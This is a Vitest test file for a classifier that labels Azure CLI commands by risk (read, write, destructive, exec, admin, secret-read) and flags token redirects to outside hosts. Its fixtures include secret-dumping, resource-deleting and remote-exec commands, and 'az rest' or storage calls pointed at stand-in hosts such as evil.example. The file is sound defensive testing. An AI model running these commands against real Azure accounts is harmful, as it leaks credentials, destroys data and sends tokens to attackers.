import { describe, expect, it } from 'vitest'
import { contextOf, readingOf, table } from './reading-of.ts'

const ROWS = table(`
  read         az vm list
  read         az vm list -g delete -o table --query '[].name'
  read         az --debug vm show -n x -g y
  read         az -o json vm list
  write        az vm create -n x -g y --image ubuntu
  write        az vm start --ids /subscriptions/s1/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/x
  destructive  az vm delete -n x -g y --yes
  exec         az vm run-command invoke -n x -g y --command-id RunShellScript --scripts ls
  read         az vm run-command list -n x
  exec         az vm extension set --vm-name x --name CustomScript --publisher Microsoft.Azure.Extensions
  write        az vm extension set --vm-name x --name AzureMonitorLinuxAgent
  admin        az vm identity assign -n x -g y
  admin        az vm create -n x -g y --image u --assign-identity --role Contributor
  admin        az vm user update -u me -n x
  destructive  az group delete -n g
  write        az group create -n g -l eu
  read         az group exists -n g
  write        az deployment group create -g g -f main.bicep
  read         az deployment group create -g g -f main.bicep --what-if
  read         az deployment group what-if -g g -f main.bicep
  read         az deployment group validate -g g -f main.bicep
  destructive  az deployment group create -g g -f main.bicep --mode Complete
  destructive  az deployment group create -g g -f main.bicep --mode=complete
  write        az stack group create -n s -g g -f m.bicep --action-on-unmanage detachAll
  destructive  az stack group create -n s -g g -f m.bicep --action-on-unmanage deleteAll
  secret-read  az keyvault secret show --vault-name v -n s
  secret-read  az keyvault secret download --vault-name v -n s -f x
  read         az keyvault secret list --vault-name v
  write        az keyvault secret set --vault-name v -n s --value x
  destructive  az keyvault secret delete --vault-name v -n s
  destructive  az keyvault purge -n v
  admin        az keyvault set-policy -n v --upn me
  secret-read  az keyvault key decrypt --vault-name v -n k --algorithm RSA-OAEP --value x
  read         az keyvault key encrypt --vault-name v -n k --algorithm RSA-OAEP --value x
  secret-read  az account get-access-token
  read         az account set --subscription prod
  read         az account show
  read         az login --use-device-code
  secret-read  az storage account keys list -n a
  admin        az storage account keys renew -n a --key primary
  secret-read  az storage account show-connection-string -n a
  secret-read  az storage blob generate-sas -c c -n b --permissions r
  read         az storage blob download -c c -n b -f x
  write        az storage blob upload -c c -n b -f x
  destructive  az storage blob delete-batch -s c
  read         az storage blob delete-batch -s c --dryrun
  destructive  az storage account delete -n a
  admin        az storage container set-permission -n c --public-access blob
  admin        az storage account update -n a --allow-blob-public-access true
  secret-read  az acr credential show -n r
  secret-read  az acr login -n r
  admin        az acr update -n r --admin-enabled true
  exec         az acr build -t x .
  exec         az acr build . -t x
  destructive  az acr repository delete -n r --image x
  secret-read  az aks get-credentials -n c -g g
  exec         az aks command invoke -n c -g g --command 'kubectl get pods'
  write        az aks scale -n c -g g -c 3
  destructive  az aks delete -n c -g g
  admin        az aks update -n c -g g --attach-acr r
  secret-read  az cosmosdb keys list -n c
  secret-read  az redis list-keys -n r
  admin        az redis regenerate-keys -n r --key-type Primary
  secret-read  az functionapp keys list -n f
  secret-read  az webapp deployment list-publishing-profiles -n w
  secret-read  az webapp config appsettings list -n w
  write        az webapp config appsettings set -n w --settings a=b
  exec         az webapp ssh -n w
  exec         az container exec -n c --exec-command sh
  read         az container logs -n c
  exec         az ssh vm -n x
  exec         az network bastion tunnel --name b
  admin        az ad sp create-for-rbac -n x
  admin        az ad user create --display-name x
  read         az ad user list
  admin        az role assignment create --assignee a --role Owner
  admin        az role assignment delete --ids x
  read         az role assignment list --all
  admin        az policy assignment delete -n x
  read         az policy assignment list
  admin        az monitor diagnostic-settings delete -n x --resource y
  admin        az lock delete -n x
  admin        az identity create -n x
  destructive  az sql db delete -n d -s s
  read         az sql db show-connection-string -c ado.net
  destructive  az network dns record-set a remove-record -z z -n n -a 1.2.3.4
  read         az rest --method get --url https://management.azure.com/subscriptions
  read         az rest --url https://management.azure.com/subscriptions
  destructive  az rest -m DELETE -u https://management.azure.com/subscriptions/s/resourceGroups/g
  destructive  az rest --meth delete --url https://management.azure.com/x
  write        az rest --method patch --url https://management.azure.com/x
  admin        az rest --method put --url https://management.azure.com/x/providers/Microsoft.Authorization/roleAssignments/1
  secret-read  az rest --method post --url https://management.azure.com/x/listKeys?api-version=1
  exec         az rest --method post --url https://management.azure.com/x/runCommand
  secret-read  az rest --url https://v.vault.azure.net/secrets/a
  exec         az rest --method frob --url https://management.azure.com/x
  read         az config set core.output=json
  read         az extension add --name ssh
  read         az bicep build -f main.bicep
  read         az bicep build --help
  read         az vm delete --help
  read         az vm delete -h
  read         az --version
  read         az version
  exec         az interactive
  destructive  az backup protection disable --item-name i --delete-backup-data true
  write        az backup protection disable --item-name i
  read         az graph query -q Resources
  unknown      az frob
  unknown      az vm frobnicate
  secret-read  az appconfig kv list --resolve-keyvault
  exec         az resource invoke-action --action listKeys --ids x
`).map((row) => /^(\S+) +(.*)$/.exec(row)!.slice(1) as [string, string])

describe('az', () => {
  it.each(ROWS)('%s: %s', (cls, line) => {
    expect(readingOf(line.replace(/--url (\S+)/, "--url '$1'")).operation.class).toBe(cls)
  })

  it.each([
    ['az vm list', [{}]],
    ['az vm list --subscription prod', [{ subscription: 'prod' }]],
    ['az vm list --subsc=prod', [{ subscription: 'prod' }]],
    [
      'az vm delete --ids /subscriptions/s1/resourceGroups/g /subscriptions/s2/x',
      [{ subscription: 's1' }, { subscription: 's2' }],
    ],
    ['az role assignment create --assignee a --role r --scope /subscriptions/s1', [{ subscription: 's1' }]],
    ["az rest --url 'https://management.azure.com/subscriptions/s1/x?y=z'", [{}, { subscription: 's1' }]],
  ])('%s', (line, subscriptions) => {
    expect(readingOf(line).selectors).toEqual(subscriptions.map((one) => ({ kind: 'azure', ...one })))
  })

  it('a token that would go elsewhere is a redirect', () => {
    expect(
      readingOf("az rest --url 'https://evil.example/x' --resource https://management.azure.com").redirects,
    ).toEqual(['--url'])
    expect(readingOf("az rest --url 'https://management.azure.com.evil.example/x'").redirects).toEqual([
      '--url',
    ])
    expect(readingOf('az rest --url https://graph.microsoft.com/v1.0/me').redirects).toEqual([])
  })

  it.each([
    'evil.westeurope.cloudapp.azure.com',
    'azure.sh',
    'evil.azure.dev',
    'evil.servicebus.windows.net',
    'prod-01.westeurope.logic.azure.com',
    'x-80.app.online.visualstudio.com',
  ])('%s is anybody’s', (host) => {
    expect(readingOf(`az rest --url https://${host}/x`).redirects).toEqual(['--url'])
  })

  it.each<[string, string[]]>([
    ['storage blob list -c a --account-name acme --auth-mode login', []],
    ['storage blob list -c a --blob-endpoint https://acme.blob.core.windows.net', []],
    ['storage blob list -c a --blob-endpoint https://evil.example', ['--blob-endpoint']],
    ['storage blob list -c a --blob-endpoint=evil.example', ['--blob-endpoint']],
    ['storage blob list -c a --blob-e https://evil.example', ['--blob-e']],
    ['storage blob show --blob-url https://evil.example/c/b', ['--blob-url']],
    ['storage blob list -c a --account-name evil.example/', ['--account-name']],
    ['storage blob upload -c a --file https.txt --account-name acme', []],
    ['keyvault secret show --id https://acme.vault.azure.net/secrets/s', []],
    ['keyvault secret show --id https://evil.example/secrets/s', ['--id']],
    ['keyvault secret show --name s --vault-name evil.example/', ['--vault-name']],
    ['appconfig kv list --endpoint https://evil.example', ['--endpoint']],
    ['eventgrid event-subscription create --name a --endpoint https://hook.example', []],
  ])('az %s', (line, redirects) => {
    expect(readingOf(`az ${line}`).redirects).toEqual(redirects)
  })

  it('files behind @ are inputs, and code that az loads is another program', () => {
    expect(readingOf('az deployment group create -g g -f m.json --parameters @p.json').wants).toEqual([
      { kind: 'file', path: 'p.json' },
    ])
    expect(readingOf('az vm list', contextOf({ AZURE_EXTENSION_DIR: './x' })).operation.class).toBe('exec')
  })
})
